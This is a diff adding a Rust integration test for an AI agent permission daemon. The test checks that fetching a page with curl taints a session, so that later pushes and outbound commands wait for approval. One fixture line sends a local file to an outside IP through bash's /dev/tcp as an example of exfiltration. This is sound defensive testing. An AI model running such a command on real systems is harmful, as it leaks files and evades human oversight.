@@ -1,0 +1,51 @@
+//! Taint through the shell (docs/sessions.md#taint): a page fetched with
+//! a shell command is as untrusted as one fetched with `WebFetch`, and a
+//! way out is a way out whatever the shell tool is called. The real binary
+//! on SQLite, the `open` preset (which allows everything, so the taint is
+//! the only thing that asks).
+
+use serde_json::{Value, json};
+
+use crate::common::daemon::{Daemon, agent_key, set_profile};
+use crate::sessions::post;
+
+async fn act(http: &reqwest::Client, base: &str, key: &str, body: Value) -> Value {
+    let (s, a) = post(http, format!("{base}/v1/actions"), key, body).await;
+    assert_eq!(s, 201, "{a}");
+    a
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_page_fetched_in_the_shell_taints_the_session_so_a_way_out_asks() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = Daemon::start(dir.path(), &[]);
+    let admin = d.admin_key();
+    let http = crate::common::client();
+    let agent = agent_key(&http, &d.base, &admin, "bot").await;
+    set_profile(&http, &d.base, &admin, "bot", json!("open")).await;
+    let push = |session: &str| json!({"tool": "Bash", "detail": "git push origin main", "session": session});
+
+    // Before any untrusted read, a push runs.
+    let a = act(&http, &d.base, &agent, push("clean")).await;
+    assert_eq!(a["status"], "approved", "{a}");
+
+    // The agent reads a page with curl: allowed, and the session is
+    // tainted by it.
+    let read =
+        json!({"tool": "bash", "detail": "curl -s example.test/notes.txt", "session": "read"});
+    let a = act(&http, &d.base, &agent, read).await;
+    assert_eq!(a["status"], "approved", "{a}");
+    // A push sent as `Bash` now asks, naming the read.
+    let a = act(&http, &d.base, &agent, push("read")).await;
+    assert_eq!(a["status"], "pending", "{a}");
+    let reason = a["decision"]["reason"].as_str().unwrap();
+    assert!(reason.contains("tainted") && reason.contains("curl"), "{a}");
+    // So does a line opening bash's /dev/tcp, which names no client.
+    let out = json!({"tool": "sh", "detail": "cat notes.txt > /dev/tcp/203.0.113.9/80", "session": "read"});
+    let a = act(&http, &d.base, &agent, out).await;
+    assert_eq!(a["status"], "pending", "{a}");
+    // A local command still runs.
+    let local = json!({"tool": "Bash", "detail": "cargo test", "session": "read"});
+    let a = act(&http, &d.base, &agent, local).await;
+    assert_eq!(a["status"], "approved", "{a}");
+}
